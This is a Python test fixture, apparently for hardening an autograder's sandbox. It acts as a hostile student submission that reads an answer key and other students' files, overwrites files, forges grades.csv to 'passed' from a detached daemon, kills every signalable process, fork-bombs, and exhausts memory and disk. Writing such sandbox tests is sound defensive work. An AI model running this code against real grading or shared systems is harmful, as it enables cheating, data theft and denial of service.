"""A hostile submission: a "client" that attacks the machine that grades it instead of
collecting items. What it tries comes from ``attacks.json`` beside it (the tests write
it: the paths and the port to aim at), and it prints, as one JSON line, every attack
that worked. Run as ``python3 hostile_client.py HOST PORT [MODE]`` (MODE, else ``attacks.json``'s
``mode``):

* ``snoop``: read a classmate's program, an answer key and the grades beside the class;
  overwrite the classmate's program and write a file beside the class; connect to a
  service of the host; listen on 0.0.0.0:7777;
* ``daemon``: leave a daemon behind (double fork, a session of its own, an empty
  environment) that keeps rewriting grades.csv to say "passed" and touching a marker;
* ``killer``: SIGKILL its parent and every process it can signal, then linger;
* ``forkbomb``: start processes until it cannot, holding them;
* ``hog``: three processes holding 300 MB each;
* ``filler``: write 100 files of 1 MiB into its folder;
* ``limits``: print the limits a child started at once runs under.
"""

import json
import os
import signal
import socket
import subprocess
import sys
import time

here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "attacks.json")) as f:
    T = json.load(f)
MODE = sys.argv[3] if len(sys.argv) > 3 else T["mode"]
worked = []


def snoop():
    for path in T["read"]:
        try:
            with open(path) as f:
                f.read()
            worked.append("read " + path)
        except OSError:
            pass
    for path in T["write"]:
        try:
            with open(path, "w") as f:
                f.write("print('pwned')\n")
            worked.append("wrote " + path)
        except OSError:
            pass
    for port in T["connect"]:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).close()
            worked.append("connected to 127.0.0.1:%d" % port)
        except OSError:
            pass
    try:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", 7777))
        s.listen(5)
        worked.append("listened on 0.0.0.0:7777 (in its own namespace, if sandboxed)")
    except OSError:
        pass


def daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.environ.clear()
    for fd in (0, 1, 2):
        os.close(fd)
    end = time.time() + T.get("linger", 20)
    while time.time() < end:
        for path in T["forge"]:
            try:
                with open(path, "w") as f:
                    f.write("student,outcome\nmallory,passed\n")
            except OSError:
                pass
        try:
            with open(T["marker"], "a") as f:
                f.write("%d\n" % os.getpid())
        except OSError:
            pass
        time.sleep(0.1)
    os._exit(0)


def killer():
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(30)


def forkbomb():
    children = 0
    try:
        while True:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
    except OSError as e:
        sys.stderr.write("fork failed after %d children: %s\n" % (children, e))
        sys.stderr.flush()
    time.sleep(30)


def hog():
    code = (
        "b = bytearray(300 << 20)\n"
        "for i in range(0, len(b), 4096): b[i] = 1\n"
        "import time; time.sleep(30)"
    )
    procs = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(3)]
    for p in procs:
        p.wait()


def filler():
    for k in range(100):
        with open("fill%03d.bin" % k, "wb") as f:
            f.write(b"x" * (1 << 20))
    worked.append("wrote 100 MiB")


def limits():
    out = subprocess.check_output(["cat", "/proc/self/limits"]).decode()
    print(json.dumps({"limits": out, "uid": os.getuid()}))


{
    "snoop": snoop,
    "daemon": daemon,
    "killer": killer,
    "forkbomb": forkbomb,
    "hog": hog,
    "filler": filler,
    "limits": limits,
}[MODE]()
print(json.dumps({"worked": worked}))
sys.stdout.flush()
